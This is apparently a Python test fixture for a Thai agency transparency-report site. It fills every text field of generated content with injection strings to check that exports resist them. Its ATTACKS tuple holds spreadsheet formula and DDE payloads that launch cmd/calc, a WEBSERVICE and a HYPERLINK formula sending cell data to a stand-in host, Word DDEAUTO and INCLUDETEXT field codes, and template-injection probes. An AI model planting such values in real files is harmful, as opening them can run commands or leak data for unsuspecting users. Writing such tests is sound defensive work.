"""A content tree in which every field that holds words tries to be something else, found by the model itself."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, get_args, get_origin

import yaml
from pydantic import BaseModel

from ita_site.model.agency import Agency
from ita_site.model.field_types import Kind, Line, Text, kind_in
from ita_site.model.framework import Framework
from ita_site.model.measure import Measure
from ita_site.model.report import Report
from ita_site.publish.check import load
from tests.builders.sites import SITES

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ita_site.catalogue.catalogue import Catalogue

PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%", "｜", "％", "'")
FORMULA: Final = "1+1"
ATTACKS: Final = (
    *(f"{first}{FORMULA}" for first in PREFIXES),
    "=cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '-HYPERLINK("http://x.invalid/?"&A1)',
    '=WEBSERVICE("http://x.invalid")',
    "{{ 7*7 }}",
    "{{ agency.__class__ }}{% for a in tables %}",
    "{%tr endfor %}{{r words }}{# a #}",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{ INCLUDETEXT http://x.invalid/a }{ HYPERLINK x }",
    '</w:t><w:fldSimple w:instr=" DDE a "/><w:t>',
    "<f>1+1</f>&lt;b&gt;]]>",
    "&P&N&D",
)
"""Each is the words of every field of one measure, unit, indicator and item; the first, of agency and report too."""

NOT_FREE: Final = {
    ("Activity", "same_as"),
    ("Instrument", "code"),
    ("Indicator", "instrument"),
    ("Evidence", "printed"),
}
"""Words that must be those of another field, or an address."""

_FOLDER: Final = "reports/2567-12m"
_KINDS: Final = (kind_in(Text), kind_in(Line))


def spoilt(folder: Path, attacks: tuple[str, ...] = ATTACKS) -> Catalogue:
    """The catalogue of a tree with a measure, a unit, an indicator and an item for each attack."""
    root = Path(shutil.copytree(SITES / "small", folder / "content"))
    _write(root / "agency.yml", _agency(attacks))
    _write(root / "framework/nacc-2566.yml", _framework(attacks))
    report = {key: value for key, value in _front(root / _FOLDER / "index.md").items() if key != "headings"}
    _write(root / _FOLDER / "index.md", spoil(Report, {**report, "headings": {}}, attacks[0]), prose=attacks[0])
    shutil.rmtree(root / _FOLDER / "measures")
    for number, attack in enumerate(attacks, 1):
        _write(root / _FOLDER / f"measures/m{number}.md", _measure(number, attack), prose=attack)
    reading = load(root)
    assert reading.catalogue is not None, [str(problem) for problem in reading.problems]
    return reading.catalogue


def spoil(entry: type[BaseModel], fields: dict[str, Any], attack: str) -> dict[str, Any]:
    """`fields` with the attack in every field of words, those left out included, and in all below that are there."""
    made = dict(fields)
    for name, field in entry.model_fields.items():
        below = _entry_in(field.annotation)
        if below and isinstance(made.get(name), dict):
            made[name] = spoil(below, made[name], attack)
        elif below and isinstance(made.get(name), list):
            made[name] = [spoil(below, value, attack) for value in made[name]]
        elif not below and _is_words(entry, name):
            made[name] = [attack] if get_origin(field.annotation) is tuple else attack
    return made


def words_of(entry: type[BaseModel]) -> Iterator[str]:
    """Every field of words in an entry and below it, as `Measure.issue.text`."""
    for name, field in entry.model_fields.items():
        below = _entry_in(field.annotation)
        if below:
            yield from (f"{entry.__name__}.{name}.{deeper.partition('.')[2]}" for deeper in words_of(below))
        elif _is_words(entry, name):
            yield f"{entry.__name__}.{name}"


def _is_words(entry: type[BaseModel], name: str) -> bool:
    field = entry.model_fields[name]
    own = next((mark for mark in field.metadata if isinstance(mark, Kind)), None)
    return (own or kind_in(field.annotation)) in _KINDS and (entry.__name__, name) not in NOT_FREE


def _entry_in(annotation: object) -> type[BaseModel] | None:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return annotation
    return next((entry for part in get_args(annotation) if (entry := _entry_in(part))), None)


def _agency(attacks: tuple[str, ...]) -> dict[str, Any]:
    agency = {
        "name": "",
        "district": "",
        "province": "",
        "website": "http://www.example.go.th",
        "source": "",
        "units": [{"id": f"u{at}"} for at, _ in enumerate(attacks, 1)],
        "complaints": [{"name": "", "url": "http://x.example/"}],
        "open_data": {"license": "CC0-1.0"},
    }
    made = spoil(Agency, agency, attacks[0])
    made["open_data"] |= {name: _own(attacks[0]) for name in ("objective", "update_frequency_unit", "geo_coverage")}
    return made | {"units": [unit | {"name": attack} for unit, attack in zip(made["units"], attacks, strict=True)]}


def _own(attack: str) -> str:
    return attack.strip() or "ก"


def _framework(attacks: tuple[str, ...]) -> dict[str, Any]:
    numbered = list(enumerate(attacks, 1))
    codes = [f"{attack.strip()} {at}" for at, attack in numbered]
    made: dict[str, list[dict[str, Any]]] = {
        "sources": [{"id": f"s{at}"} for at, _ in numbered],
        "instruments": [{"code": code, "weight": 1, "source": f"s{at}"} for at, code in enumerate(codes, 1)],
        "indicators": [{"number": at, "instrument": code, "source": f"s{at}"} for at, code in enumerate(codes, 1)],
        "items": [{"code": f"e{at}", "indicator": at, "source": f"s{at}"} for at, _ in numbered],
    }
    whole = spoil(Framework, {"family": "nacc", "year": 2566, **made}, attacks[0])
    for name, entries in made.items():
        kind = _entry_in(Framework.model_fields[name].annotation)
        assert kind
        whole[name] = [spoil(kind, entry, attack) for entry, attack in zip(entries, attacks, strict=True)]
    return whole


def _measure(number: int, attack: str) -> dict[str, Any]:
    claim = {"text": attack, "evidence": [{"url": "http://x.example/ก?a=1", "expect": {"kind": "pdf"}}]}
    measure = {
        "id": f"m{number}",
        "order": number,
        "period": "2566-10/2567-09",
        "issue": {"indicator": number, "items": [f"e{number}"]},
        "activities": [{"number": 1}],
        "responsible": {"units": ["all"]},
        "results": [{**claim, "answers": [1], "lost_picture": "yes"}],
        "outcomes": [claim],
        "headings": {},
    }
    return spoil(Measure, measure, attack)


def _front(file: Path) -> dict[str, Any]:
    fields: dict[str, Any] = yaml.load(file.read_text(encoding="utf-8").split("---")[1], yaml.BaseLoader)
    return fields


def _write(file: Path, fields: dict[str, Any], prose: str | None = None) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    text = yaml.safe_dump(fields, allow_unicode=True, width=10_000)
    file.write_text(text if prose is None else f"---\n{text}---\n{prose}\n", encoding="utf-8")
